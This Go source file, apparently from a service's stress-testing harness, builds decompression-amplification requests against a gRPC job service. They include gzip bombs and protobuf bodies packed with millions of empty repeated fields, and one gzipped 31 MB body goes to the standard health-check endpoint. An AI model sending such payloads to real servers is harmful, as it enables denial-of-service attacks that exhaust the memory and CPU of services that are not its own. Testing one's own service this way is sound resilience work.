package attack

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"net/http"
	"sync"
	"time"

	"google.golang.org/protobuf/encoding/protowire"
)

// Requests that cost a server more than they weigh: few bytes, compressed, that stand for
// very many elements.

const (
	// emptyElements empty elements are about as many as a megabyte holds.
	emptyElements = 520_000
	// emptyItems empty items are about as many as the largest batch holds.
	emptyItems = 8_000_000
	// bomb is how much a health check unfolds to.
	bomb = 31 << 20
)

// amplifier is one such request.
type amplifier struct {
	method      string
	contentType string
	body        func() []byte // made once
	key         func(Keys) string
	native      bool // at the listener for gRPC
}

func amplifiers() map[string]amplifier {
	write, read := func(k Keys) string { return k.Write }, func(k Keys) string { return k.Read }
	return map[string]amplifier{
		"empty recipients": {
			method: "/fireonce.v1.JobService/ScheduleJob", contentType: "application/proto", key: write,
			// to, of the e-mail, of the payload
			body: sync.OnceValue(func() []byte { return zip(nested(repeated(2, emptyElements), 2, 4)) }),
		},
		"empty ids": {
			method: "/fireonce.v1.JobService/ListJobs", contentType: "application/proto", key: read,
			body: sync.OnceValue(func() []byte { return zip(nested(repeated(7, emptyElements), 1)) }),
		},
		"empty items": {
			method: "/fireonce.v1.JobService/BatchScheduleJobs", contentType: "application/proto", key: write,
			body: sync.OnceValue(func() []byte { return zip(repeated(1, emptyItems)) }),
		},
		"zipped health check": {
			method: "/grpc.health.v1.Health/Check", contentType: "application/grpc", key: func(Keys) string { return "" }, native: true,
			body: sync.OnceValue(func() []byte { return frame(zip(make([]byte, bomb))) }),
		},
	}
}

// amplifying are the kinds of attacks that send them.
func amplifying() []kind {
	var all []kind
	for name, a := range amplifiers() {
		all = append(all, kind{"amplified: " + name, 1, 500 * time.Millisecond, func(ctx context.Context, w *worker, at Listener) string {
			return w.amplify(ctx, a, at)
		}})
	}
	return all
}

// unencrypted speaks HTTP/2 without TLS, as gRPC does.
var unencrypted = func() *http.Client {
	t := &http.Transport{DisableKeepAlives: true, Protocols: new(http.Protocols)}
	t.Protocols.SetUnencryptedHTTP2(true)
	return &http.Client{Timeout: patience, Transport: t}
}()

func (w *worker) amplify(ctx context.Context, a amplifier, at Listener) string {
	url, client := at.URL, hasty
	if a.native {
		url, client = "http://"+at.GRPC, unencrypted
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, url+a.method, bytes.NewReader(a.body()))
	if err != nil {
		return err.Error()
	}
	req.Header.Set("Content-Type", a.contentType)
	if a.native {
		req.Header.Set("Grpc-Encoding", "gzip")
	} else {
		req.Header.Set("Content-Encoding", "gzip")
	}
	if key := a.key(w.keys); key != "" {
		req.Header.Set("Authorization", "Bearer "+key)
	}
	return send(client, req)
}

// repeated is so many empty elements of a field.
func repeated(field protowire.Number, times int) []byte {
	one := protowire.AppendBytes(protowire.AppendTag(nil, field, protowire.BytesType), nil)
	return bytes.Repeat(one, times)
}

// nested wraps a message in fields, the innermost first.
func nested(message []byte, fields ...protowire.Number) []byte {
	for _, f := range fields {
		message = protowire.AppendBytes(protowire.AppendTag(nil, f, protowire.BytesType), message)
	}
	return message
}

func zip(message []byte) []byte {
	var out bytes.Buffer
	w, _ := gzip.NewWriterLevel(&out, gzip.BestCompression) // the level is one that there is
	_, _ = w.Write(message)                                 // a buffer takes everything
	_ = w.Close()
	return out.Bytes()
}

// frame is a compressed message as gRPC sends it.
func frame(message []byte) []byte {
	return append(binary.BigEndian.AppendUint32([]byte{1}, uint32(len(message))), message...)
}
